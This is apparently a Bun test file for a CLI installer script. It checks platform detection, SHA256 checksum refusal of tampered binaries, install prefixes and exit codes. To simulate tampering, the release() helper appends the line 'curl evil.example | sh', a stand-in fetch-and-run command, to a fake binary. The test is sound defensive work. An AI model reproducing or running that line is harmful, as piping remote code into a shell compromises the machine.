/**
 * scripts/install.sh against local directories of release files (and one local HTTP server): the
 * binary for the machine (uname, musl, Rosetta faked by commands first on PATH), the checksum
 * check that refuses a tampered binary, the prefix, the exit codes.
 */
import { afterEach, describe, expect, it } from "bun:test";
import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { pickTargets, TARGETS as RELEASE_TARGETS } from "../../scripts/release/targets.ts";
import { tempDir } from "../support/tmp.ts";

const SCRIPT = join(import.meta.dir, "..", "..", "scripts", "install.sh");
const TARGETS = RELEASE_TARGETS.map((t) => t.name);

/** A release dir: each "binary" is a script that names its target, and a SHA256SUMS for them. */
function release(o: { tamper?: string; omit?: string } = {}): string {
  const dir = tempDir("tokenctl-release-");
  const sums: string[] = [];
  for (const t of TARGETS) {
    const body = `#!/bin/sh\necho "0.1.0 (commit 0123456789ab, ${t})"\n`;
    writeFileSync(join(dir, `tokenctl-${t}`), body, { mode: 0o755 });
    if (t !== o.omit) sums.push(`${createHash("sha256").update(body).digest("hex")}  tokenctl-${t}`);
    if (t === o.tamper) writeFileSync(join(dir, `tokenctl-${t}`), `${body}curl evil.example | sh\n`, { mode: 0o755 });
  }
  writeFileSync(join(dir, "SHA256SUMS"), `${sums.join("\n")}\n`);
  return dir;
}

/** Commands that stand in for the machine: uname -s/-m, and optionally getconf, ldd, sysctl. */
function machine(o: { os: string; arch: string; musl?: boolean; rosetta?: boolean }): string {
  const bin = tempDir("tokenctl-fakebin-");
  const tool = (name: string, body: string) => {
    writeFileSync(join(bin, name), `#!/bin/sh\n${body}\n`);
    chmodSync(join(bin, name), 0o755);
  };
  tool("uname", `case "$1" in -s) echo ${o.os} ;; -m) echo ${o.arch} ;; *) echo ${o.os} ;; esac`);
  if (o.musl) {
    tool("getconf", `echo "getconf: $1: unknown variable" >&2; exit 1`);
    tool("ldd", `echo "musl libc (x86_64)" >&2; echo "Version 1.2.4" >&2; exit 1`);
  }
  tool("sysctl", o.rosetta ? `echo 1` : `echo "sysctl: unknown oid" >&2; exit 1`);
  return bin;
}

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

function run(args: string[], o: { env?: Record<string, string>; fakebin?: string } = {}): Promise<Run> {
  const home = tempDir("tokenctl-home-");
  const env = { PATH: `${o.fakebin ? `${o.fakebin}:` : ""}${process.env.PATH}`, HOME: home, ...o.env };
  return new Promise((resolve, reject) => {
    const p = spawn("sh", [SCRIPT, ...args], { env, stdio: ["ignore", "pipe", "pipe"] });
    let stdout = "";
    let stderr = "";
    p.stdout.on("data", (d) => (stdout += d));
    p.stderr.on("data", (d) => (stderr += d));
    p.on("error", reject);
    p.on("close", (code) => resolve({ code: code ?? -1, stdout, stderr }));
  });
}

describe("install.sh picks the binary for the machine", () => {
  it.each([
    [{ os: "Linux", arch: "x86_64" }, "linux-x64"],
    [{ os: "Linux", arch: "aarch64" }, "linux-arm64"],
    [{ os: "Linux", arch: "x86_64", musl: true }, "linux-x64-musl"],
    [{ os: "Darwin", arch: "arm64" }, "darwin-arm64"],
    [{ os: "Darwin", arch: "x86_64" }, "darwin-x64"],
    [{ os: "Darwin", arch: "x86_64", rosetta: true }, "darwin-arm64"],
  ])("%o → %s", async (m, target) => {
    const prefix = tempDir();
    const r = await run(["--from", release(), "--prefix", prefix], { fakebin: machine(m) });
    expect(r.stderr).toContain(`installing tokenctl-${target}`);
    expect(r.code).toBe(0);
    const installed = join(prefix, "bin", "tokenctl");
    expect(r.stdout).toBe(`${installed}\n`);
    expect(readFileSync(installed, "utf8")).toContain(`, ${target})`);
    expect(statSync(installed).mode & 0o777).toBe(0o755);
    expect(r.stderr).toContain(`installed tokenctl 0.1.0 (commit 0123456789ab, ${target})`);
  });

  it.each([
    [{ os: "FreeBSD", arch: "amd64" }, /no tokenctl release for FreeBSD/],
    [{ os: "Linux", arch: "riscv64" }, /no tokenctl release for CPU riscv64/],
    [{ os: "Linux", arch: "aarch64", musl: true }, /no tokenctl release for linux-arm64 with musl/],
  ])("refuses a machine with no release: %o", async (m, message) => {
    const prefix = tempDir();
    const r = await run(["--from", release(), "--prefix", prefix], { fakebin: machine(m) });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(message);
    expect(readdirSync(prefix)).toEqual([]);
  });

  it("this machine, unfaked, gets a Linux or macOS target", async () => {
    const prefix = tempDir();
    const r = await run(["--from", release(), "--prefix", prefix]);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/installing tokenctl-(linux-(x64|arm64)(-musl)?|darwin-(x64|arm64))\n/);
  });
});

describe("install.sh checks the checksum", () => {
  it("refuses a tampered binary: exit 1, nothing installed", async () => {
    const prefix = tempDir();
    const r = await run(["--from", release({ tamper: "linux-x64" }), "--prefix", prefix, "--target", "linux-x64"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/checksum mismatch for tokenctl-linux-x64: SHA256SUMS says [0-9a-f]{64}, the file is [0-9a-f]{64}/);
    expect(r.stderr).toContain("refusing to install");
    expect(r.stdout).toBe("");
    expect(existsSync(join(prefix, "bin", "tokenctl"))).toBe(false);
  });

  it("keeps an installed tokenctl when the new one is refused", async () => {
    const prefix = tempDir();
    expect((await run(["--from", release(), "--prefix", prefix, "--target", "linux-x64"])).code).toBe(0);
    const before = readFileSync(join(prefix, "bin", "tokenctl"), "utf8");
    const r = await run(["--from", release({ tamper: "linux-x64" }), "--prefix", prefix, "--target", "linux-x64"]);
    expect(r.code).toBe(1);
    expect(readFileSync(join(prefix, "bin", "tokenctl"), "utf8")).toBe(before);
    expect(readdirSync(join(prefix, "bin"))).toEqual(["tokenctl"]);
  });

  it("refuses a binary SHA256SUMS does not list", async () => {
    const r = await run(["--from", release({ omit: "linux-arm64" }), "--prefix", tempDir(), "--target", "linux-arm64"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("SHA256SUMS has no line for tokenctl-linux-arm64");
  });

  it("refuses a SHA256SUMS listing the binary twice", async () => {
    const dir = release();
    const sums = readFileSync(join(dir, "SHA256SUMS"), "utf8");
    writeFileSync(join(dir, "SHA256SUMS"), `${sums}${"0".repeat(64)}  tokenctl-linux-x64\n`);
    const r = await run(["--from", dir, "--prefix", tempDir(), "--target", "linux-x64"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("malformed or repeated line");
  });

  it("accepts binary-mode lines (*name), as sha256sum -b writes them", async () => {
    const dir = release();
    writeFileSync(join(dir, "SHA256SUMS"), readFileSync(join(dir, "SHA256SUMS"), "utf8").replaceAll("  tokenctl-", " *tokenctl-"));
    expect((await run(["--from", dir, "--prefix", tempDir(), "--target", "darwin-x64"])).code).toBe(0);
  });
});

describe("install.sh sources and usage", () => {
  let server: Server | undefined;
  afterEach(() => server?.close());

  it("TOKENCTL_RELEASE_DIR stands for --from; the default prefix is ~/.local", async () => {
    const home = tempDir();
    const r = await run(["--target", "linux-arm64"], { env: { TOKENCTL_RELEASE_DIR: release(), HOME: home } });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(`${home}/.local/bin/tokenctl\n`);
    expect(r.stderr).toContain(`${home}/.local/bin is not on PATH`);
  });

  it("--base-url downloads the same files over HTTP", async () => {
    const dir = release({ tamper: "darwin-x64" });
    const requests: string[] = [];
    server = createServer((req, res) => {
      requests.push(req.url ?? "");
      const file = join(dir, (req.url ?? "").replace(/^\/rel\//, ""));
      if (!req.url?.startsWith("/rel/") || !existsSync(file)) return void res.writeHead(404).end();
      res.writeHead(200).end(readFileSync(file));
    });
    await new Promise<void>((r) => server!.listen(0, "127.0.0.1", r));
    const url = `http://127.0.0.1:${(server.address() as { port: number }).port}/rel/`;
    const prefix = tempDir();
    const ok = await run(["--base-url", url, "--prefix", prefix, "--target", "linux-x64"]);
    expect(ok.code).toBe(0);
    expect(requests).toEqual(["/rel/SHA256SUMS", "/rel/tokenctl-linux-x64"]);
    const bad = await run(["--base-url", url, "--prefix", tempDir(), "--target", "darwin-x64"]);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain("checksum mismatch");
    const missing = await run(["--base-url", `${url}nope/`, "--prefix", tempDir(), "--target", "linux-x64"]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain("could not download");
  });

  it.each([
    [[], /no release source/],
    [["--bogus"], /unknown argument: --bogus/],
    [["--from"], /usage:/],
    [["--from", "/nonexistent-dir"], /not a directory/],
    [["--from", "/tmp", "--base-url", "http://127.0.0.1:1/"], /give one source/],
    [["--from", "/tmp", "--target", "windows-x64"], /unknown target: windows-x64/],
  ])("usage error %o exits 2", async (args, message) => {
    const r = await run(args);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(message);
    expect(r.stdout).toBe("");
  });
});

describe("targets", () => {
  it("install.sh accepts exactly the targets the release builds", () => {
    const line = readFileSync(SCRIPT, "utf8").match(/^\s*(linux-x64 \|[^)]*)\) ;;$/m)?.[1];
    expect(line?.split("|").map((s) => s.trim())).toEqual(TARGETS);
  });

  it("pickTargets: all by default, a comma list, an unknown name refused", () => {
    expect(pickTargets(undefined).map((t) => t.name)).toEqual(TARGETS);
    expect(pickTargets("darwin-arm64, linux-x64").map((t) => t.bunTarget)).toEqual(["bun-darwin-arm64", "bun-linux-x64"]);
    expect(() => pickTargets("windows-x64")).toThrow(/unknown target "windows-x64"/);
  });
});
